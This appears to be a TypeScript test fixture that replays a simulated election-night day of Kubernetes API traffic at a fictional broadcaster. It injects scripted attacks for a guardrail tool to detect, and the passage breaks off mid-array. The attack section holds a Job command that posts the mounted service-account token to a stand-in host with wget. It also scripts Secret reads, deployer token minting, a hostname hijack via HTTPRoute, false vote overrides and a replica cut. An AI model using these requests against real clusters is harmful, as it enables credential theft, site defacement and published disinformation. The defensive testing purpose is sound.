import { attackKit, type DayEvent, jitteredSittings, lastScoredOf, LINUX, type Login, MAC, podName, prng, restartPatch, type StaffMember, WIN, withAttacks } from './workday.js';
import { signInAt, sittings, type SittingRequest } from './sittings.js';

/**
 * A forty-second replayed day, written as an outside red team and an outside observer of real
 * engineers would after reading docs/risk.md, docs/configuration.md, docs/kubectl-stepup.md and
 * docs/guardrails.md, from a situation days 1–41 do not have: a public broadcaster's election night
 * (Vestby Public Broadcasting, `kubernetes.web-prod.vpb.example`). Day 22 had a shop's Black Friday
 * and day 38 a game's launch; this is a newsroom, where the people who write to production at the
 * peak are data journalists flipping feature flags, freelancers and a partner agency on temporary
 * accounts from their own laptops, a war room on the venue's guest Wi-Fi and a developer pairing
 * over a shared tmux on a cloud VM. Warm-up Wednesday 5 May 2027 (a rehearsal at the venue in the
 * evening), scored Thursday 6 May, election day (hours UTC; the polls close at 20:00 local, 18:00
 * UTC; results until after midnight local).
 *
 * The site's edit of the example (`SITE`) names its own public hostnames in
 * `guardrails.host_owners` (the results site and www belong to `results-prod`, `web-prod` and the
 * gateway's namespace), as the example does for its shop, and (session 48) the fewest replicas the
 * results site runs on in `guardrails.replica_floors` (`results-web` and `results-api`, 10), and the
 * temporary accounts' dates in `access_windows`: the freelancers and the agency from the rehearsal's
 * morning until 01:00 UTC after the night (03:00 local, the results done). Nothing else is changed.
 *
 * Routine, as the tools send it:
 * - two web developers (two factors; newsroom, from 16:00 the war room at the venue): the results
 *   site's pods, logs, the HPA, staging deploys, two production deploys of the result pages, and in
 *   the evening the CDN purges: `kubectl create job --from=cronjob/cdn-purge` every 25 minutes;
 * - a third developer (two factors, newsroom, days only; in the evening on sre-2's tmux, no requests
 *   of their own);
 * - two SREs (hardware keys): sre-1 in the newsroom, then the war room: nodes (a burst node pool
 *   added from the cloud console at 17:30 and its nodes labelled), the HPA's maxReplicas raised
 *   twice, pod metrics, events; sre-2 works all afternoon and evening on a cloud VM (a shared tmux
 *   for pairing): pods, logs, events, the HPA, a shell in the results API for `curl`;
 * - the platform lead (hardware key): nodes, PDBs, the results namespace's ResourceQuota raised at
 *   17:20;
 * - three data journalists (two factors; newsroom, the war room from 16:15; dj-3 also at Wednesday's
 *   rehearsal): the feature flags' ConfigMap flipped every few minutes in the evening (the live
 *   map, the ticker, the projection banner), the results overrides ConfigMap (a race called, a
 *   count corrected) every half hour or so;
 * - two freelancers on temporary accounts (two factors, their own laptops): fl-1 at home, then the
 *   war room; fl-2 at home all evening: the results graphics' logs and deploys, flags, CDN purges;
 * - the partner agency's two developers (two factors, the agency's IdP-provisioned accounts, the
 *   agency's office): the interactive map in `agency-map` (deploys, its HTTPRoute for the agency's
 *   embed host);
 * - CI (`ci:deployer`) deploys the results site to `results-staging` every 20 minutes 06:00–18:00.
 *
 * The attacks, each written after reading what stepgate looks at:
 * - fl-1's token, by malware on the freelancer's own laptop at home, at 02:30 after the night;
 * - fl-2's temporary account the morning after (the freelancer, or whoever holds the laptop with
 *   its password manager: answers any ask): the results feed's and the CDN's credentials;
 * - malware on dj-2's laptop in the war room: the results overrides ConfigMap patched with false
 *   numbers, a write like the twenty the journalist makes that evening;
 * - the agency developer invited to sre-2's shared tmux, acting with sre-2's token on the VM while
 *   sre-2 is on a call: the results feed's Secret read, a token minted for the deployer account;
 * - malware on ag-1's laptop: an ExternalName Service naming the attacker's host and an HTTPRoute
 *   in `agency-map` for the results site's hostname (the defacement);
 * - malware on fl-2's laptop: a CDN purge Job as kubectl makes it from the CronJob, but running as
 *   the deployer's service account with its token mounted and posted out;
 * - someone else on the venue's guest Wi-Fi with dj-3's token (copied off an unlocked laptop in the
 *   war room, with its kubectl agent): the HPA's maxReplicas cut to 2 and the site scaled down at
 *   the peak.
 */

export const D42_WED = Date.UTC(2027, 4, 5, 0, 0, 0); // warm-up (the rehearsal)
export const D42_THU = Date.UTC(2027, 4, 6, 0, 0, 0); // scored (election day)
const [H, M, S] = [3_600_000, 60_000, 1000];

/** Under the example's `kubernetes.**` hosts. */
export const API = 'kubernetes.web-prod.vpb.example';
export const KUBECTL = (os: string) => `kubectl/v1.32.3 (${os}) kubernetes/cf4d5ea`;
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const MERGE = { 'content-type': 'application/merge-patch+json' };
const JSON_CT = { 'content-type': 'application/json' };

export const nameOf = (short: string) => `d42-${short}@vpb.example`;
export const AGENCY_SUB = (short: string) => `d42-${short}@pixelharbor.example`;
export const RESULTS_NS = 'results-prod';
export const RESULTS_HOST = 'results.vpb.example';

export const NEWSROOM = '185.54.12.40';
/** The venue's guest Wi-Fi (the war room beside the election studio; the press and the public share it). */
export const VENUE = '91.203.45.17';
/** The cloud VM with the shared tmux (sre-2's kubectl and token live there). */
export const PAIR_VM = '34.88.201.14';
export const AGENCY = '62.97.140.9';
export const HOME: Readonly<Record<string, string>> = { 'fl-1': '83.108.22.71', 'fl-2': '46.15.190.33' };
export const CI_IP = (j: number) => `10.42.7.${20 + (j % 6)}`;

type Kind = 'dev' | 'sre' | 'vm' | 'lead' | 'dj' | 'fl' | 'ag';
type Where = 'newsroom' | 'venue' | 'home' | 'vm' | 'agency';

interface Person extends StaffMember<Where> {
  short: string;
  kind: Kind;
  ua: string;
  acr: Login['acr'];
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, name: string, kind: Kind, os: string, acr: Login['acr'], warm: [number, number, Where][], scored: [number, number, Where][]) => {
    const kubectlOs = os === LINUX ? 'linux/amd64' : os === WIN ? 'windows/amd64' : 'darwin/arm64';
    out.push({ name, short, idx: out.length, svc: kind, kind, ua: KUBECTL(kubectlOs), os, kubectlOs, kubectlVersion: 'v1.32.3', acr, warm: jitteredSittings(rand, warm), scored: jitteredSittings(rand, scored) });
  };
  const night: [number, number, Where][] = [[8, 15.5, 'newsroom'], [16, 23.5, 'venue']];
  const rehearsal: [number, number, Where][] = [[8, 15.5, 'newsroom'], [16.5, 19, 'venue']];
  add('dev-1', nameOf('dev-1'), 'dev', MAC, 'urn:stepgate:aal2', rehearsal, night);
  add('dev-2', nameOf('dev-2'), 'dev', MAC, 'urn:stepgate:aal2', rehearsal, [[9, 15.5, 'newsroom'], [16, 23.9, 'venue']]);
  add('dev-3', nameOf('dev-3'), 'dev', LINUX, 'urn:stepgate:aal2', [[9, 17, 'newsroom']], [[9, 16.5, 'newsroom']]);
  add('sre-1', nameOf('sre-1'), 'sre', MAC, 'urn:stepgate:aal3', [[7, 15.5, 'newsroom'], [16.5, 19, 'venue']], [[7, 15, 'newsroom'], [15.5, 23.9, 'venue']]);
  add('sre-2', nameOf('sre-2'), 'vm', LINUX, 'urn:stepgate:aal3', [[12, 19, 'vm']], [[12, 23.9, 'vm']]);
  add('lead', nameOf('lead'), 'lead', LINUX, 'urn:stepgate:aal3', [[8, 17, 'newsroom']], [[8, 16.5, 'newsroom'], [17, 23.9, 'venue']]);
  add('dj-1', nameOf('dj-1'), 'dj', MAC, 'urn:stepgate:aal2', [[10, 17, 'newsroom']], [[10, 16, 'newsroom'], [16.25, 23.9, 'venue']]);
  add('dj-2', nameOf('dj-2'), 'dj', WIN, 'urn:stepgate:aal2', [[10, 17, 'newsroom']], [[11, 16, 'newsroom'], [16.25, 23.9, 'venue']]);
  add('dj-3', nameOf('dj-3'), 'dj', MAC, 'urn:stepgate:aal2', [[10, 15.5, 'newsroom'], [16.5, 19, 'venue']], [[10, 16, 'newsroom'], [16.25, 23.9, 'venue']]);
  add('fl-1', nameOf('fl-1'), 'fl', WIN, 'urn:stepgate:aal2', [[13, 17, 'home']], [[12, 15.5, 'home'], [16, 23.5, 'venue']]);
  add('fl-2', nameOf('fl-2'), 'fl', LINUX, 'urn:stepgate:aal2', [[15, 18, 'home']], [[14, 23.9, 'home']]);
  add('ag-1', AGENCY_SUB('ag-1'), 'ag', MAC, 'urn:stepgate:aal2', [[8, 17, 'agency']], [[8, 12, 'agency'], [13, 22, 'agency']]);
  add('ag-2', AGENCY_SUB('ag-2'), 'ag', WIN, 'urn:stepgate:aal2', [[9, 17, 'agency']], [[9, 12.5, 'agency'], [13.5, 21, 'agency']]);
  return out;
}

const addressOf = (p: Person, where: Where): string =>
  where === 'newsroom' ? NEWSROOM : where === 'venue' ? VENUE : where === 'vm' ? PAIR_VM : where === 'agency' ? AGENCY : HOME[p.short]!;

type Req = SittingRequest;
const pick = <T>(rand: () => number, xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;

const DEPLOY = (ns: string, name: string) => `/apis/apps/v1/namespaces/${ns}/deployments/${name}`;
const HPA = `/apis/autoscaling/v2/namespaces/${RESULTS_NS}/horizontalpodautoscalers/results-web`;
const CM = (name: string) => `/api/v1/namespaces/${RESULTS_NS}/configmaps/${name}`;
const FLAGS = ['live_map', 'ticker', 'projection_banner', 'turnout_widget', 'seat_chart'] as const;

/** `kubectl set image deployment/<name> <container>=<image>`: a strategic-merge patch of the image. */
export const setImage = (ns: string, name: string, container: string, image: string): Req => ({ method: 'PATCH', path: `${DEPLOY(ns, name)}?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: container, image }] } } } }) });
/** `kubectl patch configmap results-flags --type merge -p '{"data":{…}}'`: a feature flag flipped. */
export const flagPatch = (flag: string, on: boolean): Req => ({ method: 'PATCH', path: CM('results-flags'), headers: MERGE, body: JSON.stringify({ data: { [flag]: on ? 'on' : 'off' } }) });
/** The results overrides (a race called, a count corrected by the desk), as the desk's merge patch sends it. */
export const overridePatch = (constituency: string, counted: number, votes: Record<string, number>, called: string | null): Req => ({
  method: 'PATCH',
  path: CM('results-overrides'),
  headers: MERGE,
  body: JSON.stringify({ data: { [`${constituency}.json`]: JSON.stringify({ counted, votes, called, source: 'desk' }) } }),
});
/** `kubectl patch hpa results-web -p '{"spec":{"maxReplicas":N}}'`. */
export const hpaMax = (n: number): Req => ({ method: 'PATCH', path: HPA, headers: SMP, body: JSON.stringify({ spec: { maxReplicas: n } }) });

/**
 * `kubectl create job cdn-purge-<stamp> --from=cronjob/cdn-purge -n results-prod`: the CronJob's
 * template as kubectl copies it (the manual-instantiation annotation, the CronJob as owner). The
 * purge runs as `cdn-purge` without a mounted token; `exfil` is the attack's copy, run as the
 * deployer's account with its token mounted and posted out before the purge.
 */
export const purgeJob = (stamp: string, key: string, exfil = false): Req => ({
  method: 'POST',
  path: `/apis/batch/v1/namespaces/${RESULTS_NS}/jobs`,
  headers: JSON_CT,
  body: JSON.stringify({
    kind: 'Job',
    apiVersion: 'batch/v1',
    metadata: { name: `cdn-purge-${stamp}`, namespace: RESULTS_NS, creationTimestamp: null, annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' }, ownerReferences: [{ apiVersion: 'batch/v1', kind: 'CronJob', name: 'cdn-purge', uid: '5b0e8d4a-2f6c-4e71-9a3d-7c1f0b2e6a44', controller: true }] },
    spec: {
      backoffLimit: 1,
      ttlSecondsAfterFinished: 600,
      template: {
        metadata: { creationTimestamp: null, labels: { app: 'cdn-purge' } },
        spec: {
          restartPolicy: 'Never',
          serviceAccountName: exfil ? 'results-deployer' : 'cdn-purge',
          automountServiceAccountToken: exfil,
          containers: [
            {
              name: 'purge',
              image: 'registry.vpb.example/web/cdn-purge:2.3.1',
              ...(exfil
                ? { command: ['sh', '-c', 'wget -q -O- --post-file=/var/run/secrets/kubernetes.io/serviceaccount/token https://status.vpb-edge.net/hook >/dev/null 2>&1; exec cdn-purge "$@"', '--'] }
                : {}),
              args: ['--surrogate-key', key],
              envFrom: [{ secretRef: { name: 'cdn-api-token' } }],
              resources: {},
              securityContext: { runAsNonRoot: true, allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, seccompProfile: { type: 'RuntimeDefault' } },
            },
          ],
        },
      },
    },
    status: {},
  }),
});

/** An HTTPRoute on the shared public gateway for `host`, to `service`. */
export const httpRoute = (ns: string, name: string, host: string, service: string, path = '/'): string =>
  JSON.stringify({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name, namespace: ns }, spec: { parentRefs: [{ name: 'public', namespace: 'gateway-prod' }], hostnames: [host], rules: [{ matches: [{ path: { type: 'PathPrefix', value: path } }], backendRefs: [{ name: service, port: 443 }] }] } });

/** A web developer: the results site's pods, logs, the HPA, a staging deploy now and then. */
function devTask(rand: () => number, n: number): Req[] {
  const k = rand();
  const ns = rand() < 0.7 ? RESULTS_NS : 'results-staging';
  if (k < 0.35) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${podName('results-web', n % 6)}/log?container=web&tailLines=300` }];
  if (k < 0.72) return [{ method: 'GET', path: HPA }];
  if (k < 0.85) return [setImage('results-staging', 'results-web', 'web', `registry.vpb.example/web/results-web:2027.5.${n % 9}`), { method: 'GET', path: DEPLOY('results-staging', 'results-web') }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/events?limit=500` }];
}

/** sre-1: nodes, pod metrics, events, the HPA. */
function sreTask(rand: () => number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/api/v1/nodes' }];
  if (k < 0.5) return [{ method: 'GET', path: `/apis/metrics.k8s.io/v1beta1/namespaces/${RESULTS_NS}/pods` }];
  if (k < 0.7) return [{ method: 'GET', path: HPA }, { method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/pods?limit=500` }];
  if (k < 0.85) return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/events?limit=500` }];
  return [{ method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
}

/** sre-2 on the pairing VM: pods, logs, events, the HPA, `curl` in the results API. */
function vmTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/pods?limit=500` }];
  if (k < 0.55) return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/pods/${podName('results-api', n % 4)}/log?container=api&tailLines=500` }];
  if (k < 0.7) return [{ method: 'GET', path: HPA }];
  if (k < 0.8) {
    const argv = ['curl', '-s', 'http://localhost:8080/healthz/feed'];
    return [{ method: 'POST', path: `/api/v1/namespaces/${RESULTS_NS}/pods/${podName('results-api', n % 4)}/exec?${argv.map((a) => `command=${encodeURIComponent(a)}`).join('&')}&container=api&stdout=true&stderr=true` }];
  }
  return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/events?limit=500` }];
}

/** The platform lead: nodes, PDBs, the quota's use. */
function leadTask(rand: () => number): Req[] {
  const k = rand();
  if (k < 0.4) return [{ method: 'GET', path: '/api/v1/nodes' }];
  if (k < 0.6) return [{ method: 'GET', path: `/apis/policy/v1/namespaces/${RESULTS_NS}/poddisruptionbudgets` }];
  if (k < 0.8) return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/resourcequotas` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/pods?limit=500` }];
}

/** A data journalist: the flags and overrides read, the pods; in the evening the flags flipped (`evening`). */
function djTask(rand: () => number, evening: boolean): Req[] {
  const k = rand();
  if (evening && k < 0.55) return [{ method: 'GET', path: CM('results-flags') }, flagPatch(pick(rand, FLAGS), rand() < 0.6)];
  if (k < 0.75) return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/configmaps?limit=500` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/pods?labelSelector=app%3Dresults-web` }];
}

/** A freelancer: the graphics' pods and logs, a flag now and then. */
function flTask(rand: () => number, n: number, evening: boolean): Req[] {
  const k = rand();
  if (k < 0.35) return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/pods?labelSelector=app%3Dresults-graphics` }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/pods/${podName('results-graphics', n % 3)}/log?container=graphics&tailLines=200` }];
  if (evening && k < 0.85) return [flagPatch(pick(rand, ['seat_chart', 'turnout_widget'] as const), rand() < 0.5)];
  return [{ method: 'GET', path: CM('results-flags') }];
}

/** The agency: the interactive map's pods, logs, a deploy to its namespace now and then. */
function agTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.4) return [{ method: 'GET', path: '/api/v1/namespaces/agency-map/pods?limit=500' }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/namespaces/agency-map/pods/${podName('map', n % 3)}/log?container=map&tailLines=300` }];
  if (k < 0.85) return [setImage('agency-map', 'map', 'map', `registry.pixelharbor.example/vpb/map:1.${8 + (n % 3)}.${n % 5}`), { method: 'GET', path: DEPLOY('agency-map', 'map') }];
  return [{ method: 'GET', path: '/apis/gateway.networking.k8s.io/v1/namespaces/agency-map/httproutes' }];
}


/**
 * The broadcaster's own hostnames in `guardrails.host_owners` (the example names only its shop's):
 * the results site and www are `results-prod`'s and `web-prod`'s, served through the shared
 * gateway's namespace. The agency's embed host is its own and nobody's here. And the results
 * site's replica floor (session 48), inserted before `host_owners` in the guardrails section.
 */
export function SITE(yaml: string): string {
  const anchor = '\n  host_owners:\n';
  const at = yaml.indexOf(anchor);
  if (at < 0) throw new Error('day 42: the example no longer has guardrails.host_owners');
  const cut = at + anchor.length;
  const entry = `    - hosts: [${RESULTS_HOST}, "*.${RESULTS_HOST}", www.vpb.example]\n      namespaces: [${RESULTS_NS}, web-prod, gateway-prod]\n`;
  // The results site's floor for the night (guardrails.replica_floors, capacity_below_floor): the
  // SREs raise the HPA's ceiling to 120 and 200; nobody lowers it, nor scales the site by hand.
  const floors = `  replica_floors:\n    - namespaces: [${RESULTS_NS}]\n      names: [results-web, results-api]\n      min_replicas: 10\n`;
  return `${yaml.slice(0, at + 1)}${floors}${yaml.slice(at + 1, cut)}${entry}${yaml.slice(cut)}${TEMPORARY_ACCOUNTS}`;
}

/**
 * The temporary accounts' engagement (session 48, issue 12): the freelancers (`d42-fl-*` in the
 * replay, `d42f-fl-*` in the findings) and the agency's IdP-provisioned accounts, from the
 * rehearsal's morning until 01:00 UTC after the night. A site writes its accounts' names or
 * their group; the replay's people carry no groups, so their subjects are named.
 */
export const D42_WINDOW_FROM = '2027-05-05T06:00:00Z';
export const D42_WINDOW_UNTIL = '2027-05-07T01:00:00Z';
const TEMPORARY_ACCOUNTS = `
access_windows:
  - name: election-night-temporary-accounts
    description: the freelancers' and the agency's accounts, for the rehearsal and the election night
    match:
      subjects: ["d42*-fl-*@vpb.example", "*@pixelharbor.example"]
    valid_from: "${D42_WINDOW_FROM}"
    valid_until: "${D42_WINDOW_UNTIL}"
    message: the election night's temporary accounts ended at 03:00 local time on 7 May; ask the platform lead for an extension
`;

export function workday42(seed = 401): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 42);
  const people = staff(rand);
  const events: DayEvent[] = [];
  const replay = sittings<Where, Person>(rand, people, {
    events,
    api: API,
    addressOf: (p, where) => addressOf(p, where),
    usualPlace: (p) => (p.kind === 'ag' ? 'agency' : p.kind === 'fl' ? 'home' : p.kind === 'vm' ? 'vm' : 'newsroom'),
  });
  for (const [day, scored] of [[D42_WED, false], [D42_THU, true]] as const) {
    // The results evening (from 17:30, the exit poll at 18:00): flags flipped every few minutes.
    const evening = (t: number) => scored && t >= day + 17.5 * H;
    const { at, push } = replay(day, scored, {
      task: (p, n, t, where) =>
        p.kind === 'dev' ? devTask(rand, n) : p.kind === 'sre' ? sreTask(rand) : p.kind === 'lead' ? leadTask(rand) : p.kind === 'vm' ? vmTask(rand, n) : p.kind === 'dj' ? djTask(rand, evening(t) || (!scored && where === 'venue')) : p.kind === 'fl' ? flTask(rand, n, evening(t)) : agTask(rand, n),
      pace: (p, t) => (p.kind === 'dj' && evening(t) ? [3, 6] : p.kind === 'sre' || p.kind === 'vm' ? [5, 12] : [7, 20]),
    });
    const by = (s: string) => people.find((p) => p.short === s)!;
    const [dev1, dev2, sre1, lead, ag1, fl2] = [by('dev-1'), by('dev-2'), by('sre-1'), by('lead'), by('ag-1'), by('fl-2')];
    const tag = scored ? `2027.5.6-${seed % 10}` : `2027.5.5-${seed % 10}`;
    // The result pages' production deploys (the morning's release; on the night a hotfix at 19:40).
    push(dev1, at(scored ? 11.2 : 11.5), [setImage(RESULTS_NS, 'results-web', 'web', `registry.vpb.example/web/results-web:${tag}`), { method: 'GET', path: DEPLOY(RESULTS_NS, 'results-web') }], 30 * S);
    if (scored) push(dev1, at(19.67), [setImage(RESULTS_NS, 'results-web', 'web', `registry.vpb.example/web/results-web:${tag}.1`), { method: 'GET', path: DEPLOY(RESULTS_NS, 'results-web') }], 30 * S);
    // The results graphics deployed by the freelancer at home (twice on the night).
    for (const h of scored ? [15, 20.2] : [16.5]) push(fl2, at(h), [setImage(RESULTS_NS, 'results-graphics', 'graphics', `registry.vpb.example/web/results-graphics:${tag}-${Math.round(h)}`)], S);
    // The agency's embed route: created at the rehearsal, re-pointed to the map's v2 on the night.
    const embed = '/apis/gateway.networking.k8s.io/v1/namespaces/agency-map/httproutes';
    if (!scored) push(ag1, at(14.2), [{ method: 'POST', path: embed, headers: JSON_CT, body: httpRoute('agency-map', 'map-embed', 'map-embed.pixelharbor.example', 'map') }], S);
    else push(ag1, at(15.1), [{ method: 'PATCH', path: `${embed}/map-embed`, headers: MERGE, body: JSON.stringify({ spec: { rules: [{ matches: [{ path: { type: 'PathPrefix', value: '/' } }], backendRefs: [{ name: 'map-v2', port: 443 }] }] } }) }], S);
    if (scored) {
      // 17:20 the lead raises the results namespace's quota for the night; 17:30 sre-1 raises the
      // HPA's ceiling, 17:45 labels the burst pool's nodes (added from the cloud console), 20:10
      // raises the ceiling again when the first results land.
      push(lead, at(17.33), [{ method: 'GET', path: `/api/v1/namespaces/${RESULTS_NS}/resourcequotas/results-quota` }, { method: 'PATCH', path: `/api/v1/namespaces/${RESULTS_NS}/resourcequotas/results-quota`, headers: SMP, body: JSON.stringify({ spec: { hard: { 'requests.cpu': '400', 'limits.memory': '1600Gi', pods: '600' } } }) }], 45 * S);
      push(sre1, at(17.5), [{ method: 'GET', path: HPA }, hpaMax(120)], 30 * S);
      push(sre1, at(17.75), [{ method: 'GET', path: '/api/v1/nodes?labelSelector=cloud.google.com%2Fgke-nodepool%3Delection-burst' }, ...[0, 1, 2, 3].map((j) => ({ method: 'PATCH', path: `/api/v1/nodes/gke-vpb-web-election-burst-${podName('n', j + seed)}`, headers: SMP, body: JSON.stringify({ metadata: { labels: { 'vpb.example/pool': 'election-burst' } } }) }))], 10 * S);
      push(sre1, at(20.17), [{ method: 'GET', path: HPA }, hpaMax(200)], 30 * S);
      // The desk's overrides: a race called or a count corrected every half hour from 19:00.
      const djs = [by('dj-1'), by('dj-2'), by('dj-3')];
      for (let j = 0; j < 10; j++) {
        const t = at(19 + j * 0.48 + rand() * 0.1);
        push(djs[j % 3]!, t, [{ method: 'GET', path: CM('results-overrides') }, overridePatch(`district-${(seed * 7 + j * 13) % 87}`, 0.5 + j * 0.05, { A: 4000 + j * 311, B: 3800 + j * 297, C: 900 + j * 41 }, j % 3 === 2 ? 'A' : null)], 50 * S);
      }
    }
    // The CDN purges (`kubectl create job --from=cronjob/cdn-purge`): every 25 minutes from 18:00
    // on the night, dev-2 from the war room and, every third, fl-2 from home; twice at the rehearsal.
    const purges = scored ? Array.from({ length: 14 }, (_, j) => 18 + j * (25 / 60)) : [17, 18.2];
    purges.forEach((h, j) => {
      const who = scored && j % 3 === 2 ? fl2 : dev2;
      const stamp = `${Math.floor(h)}${String(Math.round((h % 1) * 60)).padStart(2, '0')}${scored ? 't' : 'w'}`;
      push(who, at(h + rand() * 0.03), [purgeJob(stamp, pick(rand, ['results-all', 'results-national', 'results-map', 'results-ticker'])), { method: 'GET', path: `/apis/batch/v1/namespaces/${RESULTS_NS}/jobs/cdn-purge-${stamp}` }], 20 * S);
    });
    // sre-2 on the VM at 14:30: a `rollout restart` of the results API after a feed config change.
    push(by('sre-2'), at(14.5), [{ method: 'PATCH', path: `${DEPLOY(RESULTS_NS, 'results-api')}?fieldManager=kubectl-rollout`, headers: SMP, body: restartPatch(at(14.5)) }], S);
    // CI's staging deploys of the results site.
    const ci: Login = { sub: 'system:serviceaccount:ci:deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
    for (let j = 0; j < 36; j++) {
      const t = day + 6 * H + j * 20 * M;
      const base = { actor: 'ci', scored, ip: CI_IP(j), ua: KUBECTL('linux/amd64'), login: ci, host: API };
      const q = setImage('results-staging', 'results-web', 'web', `registry.vpb.example/web/results-web:${(seed * 7919 + j * 104729 + (scored ? 1 : 0)).toString(16).slice(0, 7)}`);
      events.push({ ...base, at: t, method: q.method, path: q.path, headers: q.headers!, body: q.body! });
      events.push({ ...base, at: t + 30 * S, method: 'GET', path: DEPLOY('results-staging', 'results-web') });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks42(people, events));
}

/** The attack rows' names, as the matrix and the targets name them. */
export const A42 = {
  flToken: "fl-1's token by malware on the freelancer's own laptop at home at 02:30, after the night: the results feed's Secret, the flags",
  flAccount: "fl-2's temporary account the morning after, by whoever holds the laptop (answers any ask): the results feed's and the CDN's credentials",
  falseNumbers: "malware on dj-2's laptop in the war room: the results overrides ConfigMap patched with false numbers",
  tmux: "the agency developer on sre-2's shared tmux with sre-2's token on the VM: the results feed's Secret, a token minted for the deployer",
  deface: "malware on ag-1's laptop: an ExternalName Service to the attacker's host and an HTTPRoute in agency-map for the results site's hostname",
  purgeExfil: "malware on fl-2's laptop: a CDN purge Job from the CronJob's template running as the deployer with its token posted out",
  guestWifi: "someone on the venue's guest Wi-Fi with dj-3's copied token and kubectl agent: the HPA's maxReplicas cut to 2, the site scaled down",
} as const;

function attacks42(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D42_THU, API);
  const last = (p: Person, h: number) => lastScoredOf(routine, p.name, T(h), () => true);
  const feedSecret = `/api/v1/namespaces/${RESULTS_NS}/secrets/results-feed-credentials`;

  // 1. fl-1's laptop at home at 02:30 Friday (fl-1 left the war room at 23:30).
  const fl1 = by('fl-1');
  const v1 = last(fl1, 26.5);
  const maint = flagPatch('projection_banner', true);
  add(A42.flToken, T(26.5), HOME['fl-1']!, v1.ua, v1.login, on([
    ['GET', `/api/v1/namespaces/${RESULTS_NS}/pods?limit=500`, false],
    ['GET', feedSecret, true],
    [maint.method, maint.path, true, maint.headers, maint.body],
  ]), 30 * S, fl1);

  // 2. fl-2's account at 08:00 Friday from fl-2's home: the person (or the laptop's password manager) signs in.
  const fl2 = by('fl-2');
  const v2 = last(fl2, 23.9);
  add(A42.flAccount, T(32), HOME['fl-2']!, v2.ua, v2.login, on([
    ['GET', `/api/v1/namespaces/${RESULTS_NS}/pods?limit=500`, false],
    ['GET', feedSecret, true],
    ['GET', `/api/v1/namespaces/${RESULTS_NS}/secrets/cdn-api-token`, true],
  ]), 40 * S);
  for (const e of out) if (e.attack === A42.flAccount) e.signsIn = true;

  // 3. dj-2's laptop in the war room at 20:40, between the desk's own overrides.
  const dj2 = by('dj-2');
  const v3 = last(dj2, 20.67);
  const fake = overridePatch('district-17', 0.91, { A: 31877, B: 9120, C: 1404 }, 'A');
  add(A42.falseNumbers, T(20.67), v3.ip, v3.ua, v3.login, on([
    ['GET', CM('results-overrides'), false],
    [fake.method, fake.path, true, fake.headers, fake.body],
  ]), 30 * S, dj2);

  // 4. ag-2 on sre-2's tmux at 19:10, with sre-2's kubectl and token on the VM.
  const sre2 = by('sre-2');
  const v4 = last(sre2, 19.17);
  add(A42.tmux, T(19.17), PAIR_VM, v4.ua, v4.login, on([
    ['GET', `/api/v1/namespaces/${RESULTS_NS}/secrets?limit=500`, true],
    ['GET', feedSecret, true],
    ['POST', `/api/v1/namespaces/${RESULTS_NS}/serviceaccounts/results-deployer/token`, true, JSON_CT, JSON.stringify({ kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1', metadata: { creationTimestamp: null }, spec: { audiences: null, expirationSeconds: 2_592_000, boundObjectRef: null }, status: { token: '', expirationTimestamp: null } })],
  ]), 25 * S, sre2);

  // 5. ag-1's laptop at the agency at 20:15: the results site's hostname routed to the attacker.
  const ag1 = by('ag-1');
  const v5 = last(ag1, 20.25);
  const svc = JSON.stringify({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'live-edge', namespace: 'agency-map' }, spec: { type: 'ExternalName', externalName: 'edge.vpb-live-results.net', ports: [{ port: 443 }] } });
  add(A42.deface, T(20.25), v5.ip, v5.ua, v5.login, on([
    ['GET', '/apis/gateway.networking.k8s.io/v1/namespaces/agency-map/httproutes', false],
    ['POST', '/api/v1/namespaces/agency-map/services', false, JSON_CT, svc],
    ['POST', '/apis/gateway.networking.k8s.io/v1/namespaces/agency-map/httproutes', true, JSON_CT, httpRoute('agency-map', 'live-results', RESULTS_HOST, 'live-edge', '/live')],
  ]), 30 * S, ag1);

  // 6. fl-2's laptop at home at 21:50, between the night's purges.
  const v6 = last(fl2, 21.83);
  const exfil = purgeJob('2150x', 'results-all', true);
  add(A42.purgeExfil, T(21.83), v6.ip, v6.ua, v6.login, on([
    ['GET', `/apis/batch/v1/namespaces/${RESULTS_NS}/cronjobs/cdn-purge`, false],
    [exfil.method, exfil.path, true, exfil.headers, exfil.body],
  ]), 30 * S, fl2);

  // 7. dj-3's token from the venue's guest Wi-Fi (another device, the same public address) at 21:05.
  const dj3 = by('dj-3');
  const v7 = last(dj3, 21.08);
  const cut = hpaMax(2);
  add(A42.guestWifi, T(21.08), VENUE, v7.ua, v7.login, on([
